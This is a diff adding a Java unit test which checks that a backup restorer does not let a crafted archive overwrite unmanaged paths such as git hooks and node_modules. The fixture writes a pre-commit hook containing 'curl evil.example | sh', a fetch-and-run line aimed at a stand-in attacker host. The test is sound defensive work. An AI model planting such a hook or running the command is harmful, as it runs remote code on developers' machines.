@@ -99,6 +99,46 @@ class RestorerTest {
         assertThat(stagingOf(target)).doesNotExist();
     }
 
+    @Test
+    void a_backup_s_entries_under_unmanaged_paths_never_replace_the_live_ones() throws Exception {
+        Path crafted = dir.resolve("crafted");
+        WorkflowTrees.create(crafted, "1.0.0");
+        Files.createDirectories(crafted.resolve(".git/hooks"));
+        Files.writeString(crafted.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.example | sh\n");
+        Files.createDirectories(crafted.resolve("node_modules/left-pad"));
+        Files.writeString(crafted.resolve("node_modules/left-pad/index.js"), "module.exports = evil");
+        Files.createDirectories(crafted.resolve("agents/node_modules"));
+        Files.writeString(crafted.resolve("agents/node_modules/x.js"), "evil");
+        Path archive = dir.resolve("crafted.tar.gz");
+        // everything in, unmanaged paths too, as a hostile or careless backup would hold them
+        ArchiveWriter.write(crafted, new TreeSelection(java.util.List.of(".git/", "node_modules/", "agents/", "steps/", "templates/",
+                "checklists/", "DEPLOYMENT/", "config.yaml", "*.md"), java.util.List.of()), archive);
+        Map<String, byte[]> unmanagedBefore = unmanagedBytes(target);
+        assertThat(unmanagedBefore).isNotEmpty();
+
+        Map<String, String> outputs = restorer.restore(archive, RUNBOOK, ArchiveReader.Limits.DEFAULT);
+
+        assertThat(Integer.parseInt(outputs.get("skippedUnmanaged"))).isGreaterThanOrEqualTo(3);
+        Map<String, byte[]> unmanagedAfter = unmanagedBytes(target);
+        assertThat(unmanagedAfter.keySet()).isEqualTo(unmanagedBefore.keySet());
+        unmanagedBefore.forEach((path, bytes) -> assertThat(unmanagedAfter.get(path)).as(path).isEqualTo(bytes));
+        assertThat(target.resolve(".git/hooks/pre-commit")).as("the backup's hook is not planted").doesNotExist();
+        assertThat(target.resolve("agents/node_modules/x.js")).hasContent("nested unmanaged");
+    }
+
+    private static Map<String, byte[]> unmanagedBytes(Path root) throws IOException {
+        Map<String, byte[]> contents = new TreeMap<>();
+        try (Stream<Path> files = Files.walk(root)) {
+            for (Path file : files.filter(Files::isRegularFile).toList()) {
+                Path relative = root.relativize(file);
+                if (!RUNBOOK.isManaged(relative)) {
+                    contents.put(relative.toString(), Files.readAllBytes(file));
+                }
+            }
+        }
+        return contents;
+    }
+
     private void assertRestored() throws IOException {
         assertThat(managedContents(target)).isEqualTo(good);
         assertThat(managedContents(restorer.brokenTree())).isEqualTo(broken);
